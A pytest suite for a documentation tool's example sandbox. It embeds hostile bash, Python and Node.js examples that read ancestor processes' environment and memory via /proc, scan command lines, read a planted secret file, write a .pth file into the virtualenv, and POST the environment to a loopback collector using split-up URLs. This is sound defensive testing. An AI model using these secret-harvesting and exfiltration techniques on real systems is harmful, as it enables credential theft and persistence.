"""Examples are untrusted code: they see no real secret and can reach nothing but the recording proxy.

Each hostile example below tries every attack of issue 16 that concerns it, in bash, Python and Node.js: it
walks its ancestors (`/proc/<ppid>/stat` upwards) reading each one's `/proc/<pid>/environ` and memory
(`/proc/<pid>/mem`, its stack and heap), reads other processes' command lines, a secret file planted in the
project, writes into `docs/`, `site/`, the virtual environment (a `.pth` file) and `/tmp`, and posts what it
finds to a loopback port that is not the endpoint. It fails naming what got through, else makes its one
proper request. They run against a real endpoint with a real key, once in the sandbox and once without it
(`BRANDDOCS_NO_SANDBOX=1 ... --unsafe-no-sandbox`, the negative: each attack does get through there).
"""

from __future__ import annotations

import secrets
import sysconfig
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from branddocs.errors import EXIT_NO_SANDBOX
from branddocs.examples.run import sandbox
from branddocs.site import Project

from .support.checks import check, check_under_shell, junit_results, outcome, write_page
from .support.endpoint import endpoint_command
from .support.project import scratch_project

pytestmark = pytest.mark.slow
needs_sandbox = pytest.mark.skipif(not sandbox.available()[0], reason=sandbox.available()[1] or "available")

MARK = "leaked-" + secrets.token_hex(4)
"""In every secret below; the examples build it at run time, so no page or collected example holds it whole."""
REAL_KEY = f"sk-real-{MARK}-0"
SECRETS = {
    "OPENAI_API_KEY": f"sk-openai-{MARK}-1",
    "AWS_SECRET_ACCESS_KEY": f"aws-{MARK}-2",
    "NEBULA_AI_API_KEY": f"sk-another-tenant-{MARK}-3",
}
SITE_PACKAGES = Path(sysconfig.get_path("purelib"))
"""The examples' interpreter's packages (this virtual environment): a `.pth` there runs in every later build."""
LANGS = ("bash", "python", "javascript")
ATTACKS = {
    "environ": "environ of {role}",
    "memory": "memory of {role}",
    "cmdline": "cmdline of pytest",
    "secret file": "read the secret file",
    "network": "reached another port",
}

# `role` is "pytest" for the processes `branddocs check` runs (up to the one running suite.py), "an outer
# process" above them (here: a shell holding the secrets in its environment, as a CI runner's shell would).
PAGE = """
# Hostile examples

```bash lint="skip"
mark="MARK_A""MARK_B"
root="ROOT_A""ROOT_B"
venv="VENV_A""VENV_B"
got=""
role="pytest"
pid=$PPID
while [ "${pid:-0}" -gt 1 ]; do
  if tr '\\0' '\\n' < "/proc/$pid/environ" 2>/dev/null | grep -aq "$mark"; then got="$got; environ of $role"; fi
  while read -r range _ _ _ _ name; do
    case "$name" in "[stack]"|"[heap]") ;; *) continue ;; esac
    start=$((16#${range%-*})); end=$((16#${range#*-})); pages=$(((end - start) / 4096))
    if dd if="/proc/$pid/mem" bs=4096 skip=$((start / 4096)) count=$((pages < 16384 ? pages : 16384)) 2>/dev/null \\
      | grep -aq "$mark"; then got="$got; memory of $role"; fi
  done 2>/dev/null < "/proc/$pid/maps"
  case "$(tr '\\0' ' ' < "/proc/$pid/cmdline" 2>/dev/null)" in *suite.py*) role="an outer process" ;; esac
  pid=$(cut -d' ' -f4 "/proc/$pid/stat" 2>/dev/null)
done
for f in /proc/[0-9]*/cmdline; do
  if tr '\\0' ' ' < "$f" 2>/dev/null | grep -q "suite[.]py"; then got="$got; cmdline of pytest"; break; fi
done
grep -q "$mark" "$root/secret.txt" 2>/dev/null && got="$got; read the secret file"
{ echo pwned > "$root/docs/pwned-bash.md"; } 2>/dev/null
{ echo pwned > "$root/site/acme/pwned-bash.txt"; } 2>/dev/null
{ echo "# harmless" > "$venv/TMPNAME-bash.pth"; } 2>/dev/null
{ echo pwned > "/tmp/TMPNAME-bash"; } 2>/dev/null
printf -v url 'ht%sp://127.0.0.1:%s/bash' t "PORT"
curl -s -m 5 --data "$(env)" "$url" >/dev/null 2>&1 && got="$got; reached another port"
if [ -n "$got" ]; then echo "GOT THROUGH:$got" >&2; exit 3; fi
curl -sS --fail-with-body {{ base_url }}/chat/completions -H "Authorization: Bearer ${{ api_key_env }}" \\
  -H "Content-Type: application/json" \\
  -d '{"model": "{{ default_model }}", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}'
```

```python lint="skip"
import json
import os
import urllib.request
from pathlib import Path

from openai import OpenAI

mark = ("MARK_A" + "MARK_B").encode()
root, venv = Path("ROOT_A" + "ROOT_B"), Path("VENV_A" + "VENV_B")
got = []


def ancestors():
    pid, role = os.getppid(), "pytest"
    while pid > 1:
        yield pid, role
        try:
            if b"suite.py" in Path(f"/proc/{pid}/cmdline").read_bytes():
                role = "an outer process"
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return


for pid, role in ancestors():
    try:
        if mark in Path(f"/proc/{pid}/environ").read_bytes():
            got.append(f"environ of {role}")
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
                if line.endswith(("[stack]", "[heap]")):
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    mem.seek(start)
                    if mark in mem.read(min(end - start, 1 << 26)):
                        got.append(f"memory of {role}")
    except OSError:
        pass
for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
    try:
        if b"suite.py" in cmdline.read_bytes():
            got.append("cmdline of pytest")
            break
    except OSError:
        pass
try:
    if mark in (root / "secret.txt").read_bytes():
        got.append("read the secret file")
except OSError:
    pass
for path, text in ((root / "docs" / "pwned-python.md", "pwned"), (root / "site" / "acme" / "pwned-python.txt", "pwned"),
                   (venv / "TMPNAME-python.pth", "# harmless"), (Path("/tmp/TMPNAME-python"), "pwned")):
    try:
        path.write_text(text)
    except OSError:
        pass
try:
    url = "ht" + "tp://127.0.0.1:" + "PORT" + "/python"
    urllib.request.urlopen(url, data=json.dumps(dict(os.environ)).encode(), timeout=5)
    got.append("reached another port")
except OSError:
    pass
if set(os.environ) - {"PATH", "HOME", "LANG", "{{ api_key_env }}", "LC_CTYPE", "PWD"}:
    got.append(f"an environment of {sorted(os.environ)}")
if got:
    raise SystemExit("GOT THROUGH: " + "; ".join(got))
client = OpenAI(base_url="{{ base_url }}", api_key=os.environ["{{ api_key_env }}"])
reply = client.chat.completions.create(model="{{ default_model }}", messages=[{"role": "user", "content": "hi"}])
print(reply.choices[0].message.content)
#> Hi! It's nice to meet you. Is there something I can help you with or would you like to chat?
```

```javascript
import { closeSync, openSync, readFileSync, readSync, readdirSync, writeFileSync } from 'node:fs';
import OpenAI from 'openai';

const mark = ['MARK_A', 'MARK_B'].join('');
const root = ['ROOT_A', 'ROOT_B'].join('');
const venv = ['VENV_A', 'VENV_B'].join('');
const got = [];
const read = (path) => { try { return readFileSync(path); } catch { return Buffer.alloc(0); } };
let pid = process.ppid;
let role = 'pytest';
while (pid > 1) {
  if (read(`/proc/${pid}/environ`).includes(mark)) got.push(`environ of ${role}`);
  for (const line of read(`/proc/${pid}/maps`).toString().split('\\n')) {
    if (!line.endsWith('[stack]') && !line.endsWith('[heap]')) continue;
    const [start, end] = line.split(' ')[0].split('-').map((x) => parseInt(x, 16));
    try {
      const fd = openSync(`/proc/${pid}/mem`, 'r');
      const buffer = Buffer.alloc(Math.min(end - start, 1 << 26));
      readSync(fd, buffer, 0, buffer.length, start);
      closeSync(fd);
      if (buffer.includes(mark)) got.push(`memory of ${role}`);
    } catch {}
  }
  if (read(`/proc/${pid}/cmdline`).includes('suite.py')) role = 'an outer process';
  pid = parseInt(read(`/proc/${pid}/stat`).toString().split(') ')[1]?.split(' ')[1] ?? '0', 10);
}
for (const entry of readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
  if (read(`/proc/${entry}/cmdline`).includes('suite.py')) { got.push('cmdline of pytest'); break; }
}
if (read(`${root}/secret.txt`).includes(mark)) got.push('read the secret file');
const writes = [[`${root}/docs/pwned-javascript.md`, 'pwned'], [`${root}/site/acme/pwned-javascript.txt`, 'pwned'],
  [`${venv}/TMPNAME-javascript.pth`, '# harmless'], ['/tmp/TMPNAME-javascript', 'pwned']];
for (const [path, text] of writes) {
  try { writeFileSync(path, text); } catch {}
}
try {
  const url = ['ht', 'tp://127.0.0.1:', 'PORT', '/node'].join('');
  await fetch(url, { method: 'POST', body: JSON.stringify(process.env) });
  got.push('reached another port');
} catch {}
if (got.length) throw new Error(`GOT THROUGH: ${got.join('; ')}`);
const client = new OpenAI({ apiKey: process.env.{{ api_key_env }}, baseURL: '{{ base_url }}' });
const completion = await client.chat.completions.create({
  model: '{{ default_model }}', messages: [{ role: 'user', content: 'hi' }], max_tokens: 2,
});
console.log(completion.choices[0].message.content);
```
"""
MARKERS = {"bash": 'role="pytest"', "python": "import urllib.request", "javascript": "node:fs"}


def _halves(text: str) -> tuple[str, str]:
    return text[: len(text) // 2], text[len(text) // 2 :]


@dataclass
class Attempt:
    """One `branddocs check` of the hostile page: its exit code, output, outcome per language, what reached where."""

    code: int
    output: str
    outcomes: dict[str, str]
    received: list[str]
    written: dict[str, dict[str, bool]]
    """{language: {where: whether its file was there after the run}}."""


def _targets(project: Project, tmp_name: str, lang: str) -> dict[str, Path]:
    """Where each example tries to write: the project's docs/ and site/, the venv (a .pth), the machine's /tmp."""
    return {
        "docs/": project.docs_dir / f"pwned-{lang}.md",
        "site/": project.root / "site" / "acme" / f"pwned-{lang}.txt",
        ".venv": SITE_PACKAGES / f"{tmp_name}-{lang}.pth",
        "/tmp": Path("/tmp") / f"{tmp_name}-{lang}",
    }


class Collector:
    """A loopback server that is not the endpoint: what reaches it was exfiltrated."""

    def __init__(self) -> None:
        self.received: list[str] = []
        received = self.received

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                size = int(self.headers.get("content-length") or 0)
                received.append(f"{self.path} {self.rfile.read(size).decode(errors='replace')}")
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _attempt(tmp_path_factory: pytest.TempPathFactory, extra_env: dict[str, str], *flags: str) -> Iterator[Attempt]:
    project = scratch_project(tmp_path_factory.mktemp("hostile"))
    (project.root / "site" / "acme").mkdir(parents=True)
    (project.root / "secret.txt").write_text(f"the tenant's secret: {MARK}\n")
    collector, tmp_name = Collector(), f"branddocs-pwned-{secrets.token_hex(6)}"
    text = PAGE
    for name, value in (("MARK", MARK), ("ROOT", str(project.root)), ("VENV", str(SITE_PACKAGES))):
        a, b = _halves(value)  # no page holds the whole value: the build's secret scan, and the memory scans
        text = text.replace(f"{name}_A", a).replace(f"{name}_B", b)
    page = write_page(project, "hostile.md", text.replace("PORT", str(collector.port)).replace("TMPNAME", tmp_name))
    log_dir = tmp_path_factory.mktemp("endpoint")
    try:
        with endpoint_command(log_dir, "--api-key", REAL_KEY, "--brand", "acme", cwd=project.root) as (url, _):
            junit = project.root / "junit.xml"
            env = {**SECRETS, "BRANDDOCS_ENDPOINT": f"{url}/v1", "BRANDDOCS_API_KEY": REAL_KEY, **extra_env}
            done = check_under_shell(project, "--brand", "acme", "hostile.md", *flags, "--", f"--junitxml={junit}",
                                     env=env)  # fmt: skip
        results = junit_results(junit)
        outcomes = {lang: outcome(results, page, MARKERS[lang], lang) for lang in LANGS} if results else {}
        written = {lang: {k: p.exists() for k, p in _targets(project, tmp_name, lang).items()} for lang in LANGS}
    finally:
        collector.close()
        for lang in LANGS:  # the negative run really wrote them: leave this machine as it was at once
            for path in _targets(project, tmp_name, lang).values():
                path.unlink(missing_ok=True)
    yield Attempt(done.returncode, done.stdout + done.stderr, outcomes, collector.received, written)


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attempt]:
    if not sandbox.available()[0]:
        pytest.skip(sandbox.available()[1])
    yield from _attempt(tmp_path_factory, {})


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attempt]:
    """The negative: the same examples without the sandbox (and the flag a real key then needs)."""
    yield from _attempt(tmp_path_factory, {"BRANDDOCS_NO_SANDBOX": "1"}, "--unsafe-no-sandbox")


@needs_sandbox
def test_examples_reach_only_the_proxy_and_see_no_secret(sandboxed: Attempt) -> None:
    assert "each example runs in a sandbox" in sandboxed.output
    assert sandboxed.code == 0, sandboxed.output
    assert sandboxed.outcomes == dict.fromkeys(LANGS, "passed"), sandboxed.output
    assert sandboxed.received == [], "an example reached a loopback port that is not the endpoint"


def test_without_the_sandbox_the_same_examples_get_out(unsandboxed: Attempt) -> None:
    """The negative: the test above can fail. Without the sandbox, a URL made at run time gets out."""
    assert "WARNING: examples run WITHOUT a sandbox: $BRANDDOCS_NO_SANDBOX is set" in unsandboxed.output
    assert unsandboxed.code == 1, unsandboxed.output
    assert {line.split()[0] for line in unsandboxed.received} == {"/bash", "/python", "/node"}
    # The environment is still minimal: what got out holds no real secret.
    for value in [*SECRETS.values(), REAL_KEY]:
        assert all(value not in line for line in unsandboxed.received)


@needs_sandbox
@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("attack", [*ATTACKS, "writes"])
def test_each_attack_is_stopped_by_the_sandbox(
    sandboxed: Attempt, unsandboxed: Attempt, attack: str, lang: str
) -> None:
    """Every attack fails in the sandbox, and gets through the same example without it (the negative)."""
    assert sandboxed.outcomes[lang] == "passed", sandboxed.outcomes[lang]
    if attack == "writes":
        assert sandboxed.written[lang] == dict.fromkeys(["docs/", "site/", ".venv", "/tmp"], False)
        assert unsandboxed.written[lang] == dict.fromkeys(["docs/", "site/", ".venv", "/tmp"], True)
        return
    said = ATTACKS[attack].format(role="an outer process")
    assert said in unsandboxed.outcomes[lang], unsandboxed.outcomes[lang]


@pytest.mark.parametrize("lang", LANGS)
def test_no_secret_in_the_processes_branddocs_check_runs(unsandboxed: Attempt, lang: str) -> None:
    """Without the sandbox too, pytest and its workers hold no secret in their environment or memory: the key
    went to the proxy process over a pipe. The shell above them does (its environment), and the same scans find
    it there: they can find what they look for."""
    failure = unsandboxed.outcomes[lang]
    assert "GOT THROUGH" in failure
    assert "environ of pytest" not in failure
    assert "memory of pytest" not in failure
    assert "environ of an outer process" in failure
    assert "memory of an outer process" in failure
    assert MARK not in unsandboxed.output


def test_a_real_key_without_a_sandbox_is_refused_in_one_line(tmp_path: Path) -> None:
    project = scratch_project(tmp_path / "project")
    for switch, why in (({"BRANDDOCS_BWRAP": str(tmp_path / "no-bwrap")}, "no bubblewrap here"),
                        ({"BRANDDOCS_NO_SANDBOX": "1"}, "$BRANDDOCS_NO_SANDBOX is set")):  # fmt: skip
        env = {"BRANDDOCS_ENDPOINT": "http://127.0.0.1:9/v1", "BRANDDOCS_API_KEY": REAL_KEY, **switch}
        code, results, output = check(project, "--brand", "acme", env=env)
        assert code == EXIT_NO_SANDBOX, output
        assert results == {}
        lines = output.strip().splitlines()
        assert len(lines) == 1, output
        assert lines[0].startswith("branddocs: examples cannot run in a sandbox here (")
        assert why in lines[0]
        assert "--unsafe-no-sandbox" in lines[0]
        assert REAL_KEY not in output


def test_the_reference_endpoint_without_a_sandbox_runs_with_a_warning(tmp_path: Path) -> None:
    """Its key is made for the run: no refusal, one warning line in the run's header."""
    project = scratch_project(tmp_path / "project")
    env = {"BRANDDOCS_BWRAP": str(tmp_path / "no-bwrap")}
    code, results, output = check(project, "--brand", "acme", "serverless-endpoints.md", env=env)
    assert code == 0, output
    assert results
    assert output.count("WARNING: examples run WITHOUT a sandbox: no bubblewrap here") == 1


def test_a_samples_request_to_a_foreign_address_is_never_run(scratch: Project) -> None:
    """A sample's request is held to its own static checks: an address the brand does not own is never called."""
    collector = Collector()
    try:
        port = collector.port
        page = write_page(
            scratch,
            "foreign.md",
            f"""
# A sample whose request calls elsewhere

```bash group="chat"
curl -sS -X POST http://127.0.0.1:{port}/v1/chat/completions -H "Authorization: Bearer ${{{{ api_key_env }}}}"
```

```json group="chat"
{{"id": "x", "object": "chat.completion", "created": 1, "model": "{{{{ default_model }}}}", "choices": []}}
```
""",
        )
        code, results, output = check(scratch, "--brand", "acme", "foreign.md")
        assert code == 1, output
        sample = outcome(results, page, '"object": "chat.completion"', "json")
        assert (
            f"failed: calls http://127.0.0.1:{port}/v1/chat/completions, which is not Acme Cloud's base URL" in sample
        )
        assert collector.received == [], "the foreign address was called"
    finally:
        collector.close()
